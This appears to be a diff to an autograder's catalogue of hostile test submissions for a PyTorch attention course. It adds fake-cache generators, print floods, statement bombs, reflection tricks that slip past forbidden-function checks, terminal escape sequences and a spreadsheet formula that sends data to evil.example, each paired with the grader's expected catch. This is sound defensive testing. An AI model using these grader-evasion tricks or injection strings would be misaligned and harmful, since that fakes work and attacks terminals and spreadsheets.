@@ -1081,6 +1081,55 @@ def generate(model, prompt, num_tokens, use_cache=True):
     return tokens, torch.zeros(B, num_tokens, model.readout.shape[1], dtype=torch.float64)
 '''
 
+# Issue 21: caches that lie. The check read only what the cache held at the end; these
+# three return the right tokens and logits and leave the right keys there, without using the
+# cache step by step. The cache now stores its keys rounded (as quantised caches do), so each
+# step's logits show how its keys were made.
+_UNCACHED_DECODING = '''
+@torch.no_grad()
+def _uncached(model, prompt, num_tokens):
+    tokens, chosen = prompt, []
+    for step in range(num_tokens):
+        last = model(tokens)[:, -1]                                       # (B, V)
+        chosen.append(last)
+        tokens = torch.cat([tokens, last.argmax(-1, keepdim=True)], dim=1)
+    return tokens, torch.stack(chosen, dim=1)
+'''
+_DECODED_THEN_CACHED = _UNCACHED_DECODING + '''
+
+@torch.no_grad()
+def generate(model, prompt, num_tokens, use_cache=True):
+    was_training = model.training
+    model.eval()
+    tokens, logits = _uncached(model, prompt, num_tokens)
+    if use_cache:
+        {fill}
+    model.train(was_training)
+    return tokens, logits
+'''
+# the cache, filled afterwards in one call
+CACHE_FILLED_IN_ONE_CALL = _DECODED_THEN_CACHED.format(
+    fill="model(tokens[:, :-1], caches=model.new_caches())")
+# the cache's keys and values, computed from the model's weights
+CACHE_WRITTEN_FROM_THE_WEIGHTS = _DECODED_THEN_CACHED.format(fill="""(cache,) = model.new_caches()
+        x = model.emb[tokens[:, :-1]] + model.pos[:tokens.shape[1] - 1]
+        cache.keys, cache.values = x @ model.wk, x @ model.wv""")
+FRESH_CACHE_EACH_STEP = '''
+@torch.no_grad()
+def generate(model, prompt, num_tokens, use_cache=True):
+    was_training = model.training
+    model.eval()
+    tokens, chosen = prompt, []
+    for step in range(num_tokens):  # a new cache each step, the whole sequence into it
+        logits = model(tokens, caches=model.new_caches() if use_cache else None)
+        last = logits[:, -1]
+        chosen.append(last)
+        tokens = torch.cat([tokens, last.argmax(-1, keepdim=True)], dim=1)
+    model.train(was_training)
+    return tokens, torch.stack(chosen, dim=1)
+'''
+GENERATE_CACHED = r"^generate\(model, prompt, 5, use_cache=True\): "
+
 # a constant is trivially invariant and has every shape right: it earns nothing
 ZERO_ATTENTION = '''
 import torch
@@ -1857,6 +1906,183 @@ def attention_scores(query, key):
 '''
 
 # ---------------------------------------------------------------------------------------
+# Issue 21: honest numpy numbers. Every exercise that returns a number, returning it as a
+# numpy scalar or 0-d array (numpy 2 writes repr(numpy.float64(x)) as "np.float64(x)"):
+# the wire sends the number it holds, and the honest answer gets full marks.
+# ---------------------------------------------------------------------------------------
+
+
+def _reference_edit(notebook, cell, *pairs):
+    """The reference code of solution cell `cell` of chapters/<notebook>.ipynb with each
+    (old, new) of `pairs` replaced once (tests.submissions.edit)."""
+    from pathlib import Path
+
+    from tests.submissions import edit, reference_cells
+    source = json.loads((Path(__file__).resolve().parents[1] / "chapters"
+                         / f"{notebook}.ipynb").read_text())
+    code = reference_cells(source)[cell]
+    for old, new in pairs:
+        code = edit(code, old, new)
+    return code
+
+
+NUMPY_COUNT_PARAMETERS = "import numpy\n" + _reference_edit(
+    CH3, "count_parameters", ("return weights + biases", "return numpy.int64(weights + biases)"))
+NUMPY_KV_COUNTS = "import numpy\n" + _reference_edit(
+    "06_kv", "counts", ("return weights + biases", "return numpy.uint32(weights + biases)"),
+    ("return values_per_token * bytes_per_value",
+     "return numpy.array(values_per_token * bytes_per_value, dtype=numpy.int64)"))
+NUMPY_EQUIVARIANCE_GAP = "import numpy\n" + _reference_edit(
+    "06_kv", "equivariance_gap", ("return (permuted_first - permuted_after).abs().max().item()",
+                                  "return numpy.float64((permuted_first - permuted_after)"
+                                  ".abs().max().item())"))
+NUMPY_EQUIVARIANCE_GAP_32 = _reference_edit(
+    "06_kv", "equivariance_gap", ("return (permuted_first - permuted_after).abs().max().item()",
+                                  "return (permuted_first - permuted_after).abs().max()"
+                                  ".numpy()[()]"))  # numpy.float32, from torch itself
+NUMPY_TRAIN_STEP = "import numpy\n" + _reference_edit(
+    "07_capstone", "train_step", ("return loss.item()", "return numpy.float64(loss.item())"))
+NUMPY_TRAIN_STEP_0D = _reference_edit(
+    "07_capstone", "train_step", ("return loss.item()", "return loss.detach().numpy()"))
+
+
+# Issue 21: printed floods. Each top-level statement of a solution cell is one call of the
+# student's process, whose reply carries what it printed (up to the print limit): 4,000 of
+# them kept 80 MB in the grader until its end (7,600 in four cells here: 152 MB). Now a head and a tail per test, freed.
+# (thousands of calls: seconds on an idle machine, more on a loaded one)
+FLOOD_TIME = {"notebook_seconds": 180}
+PRINT_FLOOD = "\n".join(['print("x" * 20_000)'] * 1900) + "\n"  # (2,000 a cell at most)
+
+
+# Issue 21: statement bombs. Each top-level statement of a solution cell is one step; they
+# were sent padded with a newline per line above (40,000 one-word statements: +817 MB and
+# 80 s in the grader). Now unpadded, and bounded before any parsing: 2,000 per cell (the
+# cell is not run), 10,000 per notebook (refused); a 20 MB notebook is one cell left out.
+ONE_WORDS = "pass\n"
+STATEMENT_BOMB = ONE_WORDS * 40_000
+SEMICOLON_BOMB = "pass;" * 40_000 + "pass\n"
+OVER_A_CELL = ONE_WORDS * 2_500
+NOTEBOOK_BOMB = r"^the notebook's code cells hold more than 10,000 statements \(lines and " \
+                r"semicolons; the chapter's own hold under 1,000\): over the grader's limit, " \
+                r"not graded$"
+CELL_BOMB = r"more than 2,000 statements \(lines and semicolons\) in one cell, over the " \
+            r"grader's limit: the cell was not run"
+
+
+NOT_RUN = r"^NameError: name '{}' is not defined"
+
+
+def _cells_of_statements(nb):
+    """Six more code cells of 1,999 one-word statements each: each under the bound of a
+    cell, together over the notebook's."""
+    nb["cells"] += [{"cell_type": "code", "execution_count": None, "metadata": {},
+                     "outputs": [], "source": ONE_WORDS * 1_999} for _ in range(6)]
+
+
+def _notebook_of_20MB(kit):
+    """A notebook of about 20 MB (under the file limit), one-word statements in one cell."""
+    return kit.filled({"attention_scores": "a\n" * 6_400_000})  # 3 bytes each in JSON
+
+
+# Issue 21: the time limit of a test cell is the cell's, all its calls together (it was
+# each call's: four 5-second calls passed under an 8-second limit, after 22 s).
+SLOW_CALLS = "import time\n" + _reference_edit(
+    CH1, "attention_entropy", ("    return -torch", "    time.sleep(2.5)  # each call: under "
+                                                  "the limit\n    return -torch"))
+SLOW_GAP = "import time\n" + _reference_edit(
+    "06_kv", "equivariance_gap", ("with torch.no_grad():", "time.sleep(1.5)\n    with torch.no_grad():"))
+TEST_TIME = r"^Timed out: (no answer within \d+ s, what was left of the test cell's time " \
+            r"limit|the test cell's time limit ran out)"
+
+
+# Issue 21: forbids bypassed by reflection. Each helper pops every mode off torch's
+# function-mode stack for a call (the forbid's among them), reaching torch._C without
+# spelling it: through a star import of sys, operator.attrgetter, or getattr and sys under
+# other names. The source analysis follows names: each costs every forbid of its chapter.
+_POP_MODES = '''
+
+def _unguarded(call, *args, **kwargs):
+    lib = {fetch}
+    modes = [{get}(lib, "_pop_torch_function_" + "stack")()
+             for _ in range({get}(lib, "_len_torch_function_" + "stack")())]
+    try:
+        return call(*args, **kwargs)
+    finally:
+        for mode in reversed(modes):
+            {get}(lib, "_push_on_torch_function_" + "stack")(mode)
+
+'''
+REFLECTION = {
+    "star_import_of_sys": "from sys import *\n" + _POP_MODES.format(
+        fetch='getattr(modules["tor" + "ch"], "_" + "C")', get="getattr"),
+    "operator_attrgetter": "import operator\nimport torch\n" + _POP_MODES.format(
+        fetch='operator.attrgetter("_" + "C")(torch)',
+        get="(lambda obj, name: operator.attrgetter(name)(obj))"),
+    "getattr_and_sys_renamed": "import sys as system\n\nfetch = getattr\n" + _POP_MODES.format(
+        fetch='fetch(system.modules["tor" + "ch"], "_" + "C")', get="fetch"),
+}
+REFLECTED = {"star_import_of_sys": r"star import from sys \(the names it binds cannot be "
+                                   r"followed\)",
+             "operator_attrgetter": r"calls attrgetter with a computed name",
+             "getattr_and_sys_renamed": r"(calls getattr under another name \(fetch\)|uses "
+                                        r"system\.modules, which is sys\.modules)"}
+# (chapter, the exercise whose cell holds the helper, the tests every forbid there costs)
+FORBIDDING = [(CH1, "stable_softmax", ("test_stable_softmax", "test_stable_softmax_large",
+                                       "test_sdpa", "test_sdpa_large", "test_sdpa_cross")),
+              (CH2, "multihead_attention_core", ("test_multihead_attention_core",)),
+              (CH3, "MultiHeadAttention", ("test_mha_forward",)),
+              ("04_masks", "scaled_dot_product_attention", ("test_scaled_dot_product_attention",
+                                                            "test_invariances"))]
+# a star import of torch binds softmax as a plain name: the forbid sees the name
+SOFTMAX_FROM_A_STAR_IMPORT = '''
+from torch import *
+from torch.nn.functional import *
+
+
+def stable_softmax(scores, dim=-1):
+    return softmax(scores, dim=dim)
+'''
+
+
+def _reflection_entries():
+    """A Hostile entry per reflection helper and chapter with forbids (see FORBIDDING)."""
+    entries = []
+    for chapter, cell, tests in FORBIDDING:
+        for kind, helper in REFLECTION.items():
+            entries.append(Hostile(
+                f"reflection_{kind}_{chapter.split('_', 1)[1]}",
+                cells(**{cell: helper + _reference_edit(chapter, cell)}),
+                Expect(tests=each(tests, failed(FORBIDDEN_SEEN)),
+                       problems=[("suspicious", REFLECTED[kind])]), chapter=chapter))
+    return entries
+
+
+# Issue 21: student text meant for a terminal or a spreadsheet. An OSC sequence sets the
+# terminal's title, ESC[2J clears it, U+202E reverses what follows: none reaches a result.
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+RAISES_A_FORMULA = f'''
+def attention_scores(query, key):
+    named = type({FORMULA + ESCAPES!r}, (ValueError,), {{}})
+    raise named({ESCAPES + "read me"!r})
+'''
+
+
+def _kernel_with_escapes(kit):
+    nb = _r_kernel(kit)
+    nb["metadata"]["kernelspec"]["display_name"] = "R" + ESCAPES
+    return nb
+
+
+def _grade_id_with_escapes(nb):
+    """Two cells of an exercise nobody asked for, named with escape sequences."""
+    cell = copy.deepcopy(_solution_cell(nb, "attention_scores"))
+    cell["metadata"]["nbgrader"]["grade_id"] = "extra" + ESCAPES
+    cell.pop("id", None)
+    nb["cells"] += [cell, copy.deepcopy(cell)]
+
+
+# ---------------------------------------------------------------------------------------
 # The catalogue
 # ---------------------------------------------------------------------------------------
 
@@ -1933,13 +2159,16 @@ ENTRIES = [
                    problems=[("suspicious", r"uses torch\.ops")])),
     Hostile("forbidden_softmax_by_computed_name_in_a_thread",
             cells(stable_softmax=SOFTMAX_COMPUTED_NAME_IN_A_THREAD),
-            Expect(tests=each(SOFTMAX, failed(FORBIDDEN_SEEN)),
+            # (a computed name can reach anything, from any cell: every forbid's tests)
+            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)),
                    problems=[("suspicious", r"imports concurrent\.futures"),
                              ("suspicious", r"calls getattr with a computed name")])),
     Hostile("forbidden_softmax_by_computed_name", cells(stable_softmax=SOFTMAX_COMPUTED_NAME),
-            # (the teaching forbid, by name, catches this one as it runs)
-            Expect(tests=each(SOFTMAX, failed(TEACHING + r"you called softmax, a softmax "
-                                              r"that PyTorch computes for you")),
+            # (the teaching forbid, by name, catches this one as it runs; a computed name
+            # can reach anything, from any cell: every forbid's tests)
+            Expect(tests={**each(SOFTMAX, failed(TEACHING + r"you called softmax, a softmax "
+                                                 r"that PyTorch computes for you")),
+                          **each(SDPA, failed(FORBIDDEN_SEEN))},
                    problems=[("suspicious", r"calls getattr with a computed name")])),
     Hostile("rebinds_f_scaled_dot_product_attention",
             cells(attention_scores=REBINDS_SDPA, scaled_dot_product_attention=SDPA_FROM_REBOUND),
@@ -2303,6 +2532,101 @@ ENTRIES = [
                    problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH7),
     Hostile("heads_raises_its_own_valueerror", cells(split_heads=SPLIT_HEADS_OWN_VALUEERROR),
             Expect(), chapter=CH2),
+    # issue 21: honest numpy numbers, from every exercise that returns one: full marks
+    Hostile("numpy_int64_parameter_count", cells(count_parameters=NUMPY_COUNT_PARAMETERS),
+            Expect(), chapter=CH3),
+    Hostile("numpy_uint32_and_0d_int64_kv_counts", cells(counts=NUMPY_KV_COUNTS), Expect(),
+            chapter=CH6),
+    Hostile("numpy_float64_equivariance_gap", cells(equivariance_gap=NUMPY_EQUIVARIANCE_GAP),
+            Expect(), chapter=CH6),
+    Hostile("numpy_float32_equivariance_gap",
+            cells(equivariance_gap=NUMPY_EQUIVARIANCE_GAP_32), Expect(), chapter=CH6),
+    Hostile("numpy_float64_training_loss", cells(train_step=NUMPY_TRAIN_STEP), Expect(),
+            chapter=CH7),
+    Hostile("numpy_0d_array_training_loss", cells(train_step=NUMPY_TRAIN_STEP_0D), Expect(),
+            chapter=CH7),
+    # issue 21: escape sequences and formulas in student text (every text of every result
+    # is checked for control characters by test_hostile_submission)
+    Hostile("kernel_name_with_terminal_escapes", _kernel_with_escapes,
+            Expect("error", error=r"uses the R\]0;owned\[2J\[31m kernel; the course's "
+                                  r"notebooks are Python")),
+    Hostile("exception_named_like_a_formula_with_escapes",
+            cells(attention_scores=RAISES_A_FORMULA),
+            Expect(tests={SCORES: failed(r"^attention_scores raised =HYPERLINK\("
+                                         r"\"http://evil\.example/\?\"&A1,\"click\"\)\]0;"
+                                         r"owned\[2J\[31m: \]0;owned\[2J\[31mread me")})),
+    Hostile("grade_id_with_terminal_escapes", edited(_grade_id_with_escapes),
+            Expect(problems=[("duplicate", r"the exercise 'extra\]0;owned\[2J\[31m' is in 2 "
+                                           r"cells")])),
+    # issue 21: floods of prints, one call each, in chapters 1, 6 and 7
+    Hostile("prints_20KB_in_7600_statements", cells(**{
+        cell: PRINT_FLOOD + _reference_edit(CH1, cell) for cell in (
+            "attention_scores", "attention_entropy", "stable_softmax",
+            "scaled_dot_product_attention")}), Expect(),
+        limits=FLOOD_TIME),
+    Hostile("kv_prints_20KB_in_7600_statements", cells(**{
+        cell: PRINT_FLOOD + _reference_edit("06_kv", cell) for cell in (
+            "repeat_kv", "counts", "equivariance_gap", "rotary")}), Expect(), chapter=CH6,
+        limits=FLOOD_TIME),
+    Hostile("capstone_prints_20KB_in_5700_statements", cells(**{
+        cell: PRINT_FLOOD + _reference_edit("07_capstone", cell) for cell in (
+            "train_step", "generate", "transformer_block")}), Expect(), chapter=CH7,
+        limits=FLOOD_TIME),
+    # issue 21: statement bombs, left out (a cell) or refused (a notebook) before parsing
+    Hostile("statements_40000_one_word", cells(attention_scores=STATEMENT_BOMB),
+            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
+                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
+    Hostile("statements_40000_on_one_line", cells(attention_entropy=SEMICOLON_BOMB),
+            Expect(tests={ENTROPY: failed(NOT_RUN.format("attention_entropy"))},
+                   problems=[("limit", r"^cell attention_entropy: " + CELL_BOMB)])),
+    Hostile("notebook_of_20MB_of_one_word_statements", _notebook_of_20MB,
+            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
+                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
+    Hostile("statements_over_a_cell", cells(
+        attention_scores=OVER_A_CELL + _reference_edit(CH1, "attention_scores")),
+            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
+                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
+    Hostile("statements_over_a_notebook", edited(_cells_of_statements),
+            Expect("error", error=NOTEBOOK_BOMB)),
+    Hostile("kv_statements_40000_one_word", cells(counts=STATEMENT_BOMB),
+            Expect(tests=each(["test_count_gqa_parameters", "test_count_kv_cache_bytes"],
+                              failed(NOT_RUN.format("count_\\w+"))),
+                   problems=[("limit", r"^cell counts: " + CELL_BOMB)]), chapter=CH6),
+    Hostile("kv_statements_over_a_notebook", edited(_cells_of_statements),
+            Expect("error", error=NOTEBOOK_BOMB), chapter=CH6),
+    Hostile("capstone_statements_over_a_cell", cells(
+        train_step=OVER_A_CELL + _reference_edit("07_capstone", "train_step")),
+            Expect(tests={"test_train_step": failed(NOT_RUN.format("train_step"))},
+                   problems=[("limit", r"^cell train_step: " + CELL_BOMB)]), chapter=CH7),
+    Hostile("capstone_statements_over_a_notebook", edited(_cells_of_statements),
+            Expect("error", error=NOTEBOOK_BOMB), chapter=CH7),
+    # issue 21: calls each under the limit, together over the test cell's
+    Hostile("slow_calls_add_up_past_the_test_limit", cells(attention_entropy=SLOW_CALLS),
+            Expect(tests={ENTROPY: failed(TEST_TIME, "timeout")}),
+            limits={"call_seconds": 4}),
+    Hostile("kv_slow_calls_add_up_past_the_test_limit", cells(equivariance_gap=SLOW_GAP),
+            Expect(tests={"test_equivariance_gap": failed(TEST_TIME, "timeout")}),
+            limits={"call_seconds": 4}, chapter=CH6),
+    # issue 21: caches that lie about the steps (4/4 before: the check read the end state)
+    Hostile("capstone_generate_fills_the_cache_at_the_end",
+            cells(generate=CACHE_FILLED_IN_ONE_CALL),
+            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"use_cache=True but the "
+                                                  r"model was never given the caches")}),
+            chapter=CH7),
+    Hostile("capstone_generate_writes_the_cache_from_the_weights",
+            cells(generate=CACHE_WRITTEN_FROM_THE_WEIGHTS),
+            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"use_cache=True but the "
+                                                  r"model was never given the caches")}),
+            chapter=CH7),
+    Hostile("capstone_generate_fresh_cache_each_step", cells(generate=FRESH_CACHE_EACH_STEP),
+            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"with the cache, step 1 "
+                                                  r"fed 4 positions")}),
+            chapter=CH7),
+    # issue 21: reflection against every forbid
+    *_reflection_entries(),
+    Hostile("forbidden_softmax_from_a_star_import", cells(stable_softmax=SOFTMAX_FROM_A_STAR_IMPORT),
+            Expect(tests=each(SOFTMAX, failed(TEACHING + r"you called softmax, a softmax that "
+                                                         r"PyTorch computes for you")))),
     Hostile("heads_chapter_1_submitted_as_chapter_2", _other_chapter,
             Expect("error", error=r"02_heads\.ipynb holds 0 of 02_heads's 5 exercises; it "
                                   r"holds 01_attention's exercises"), chapter=CH2),
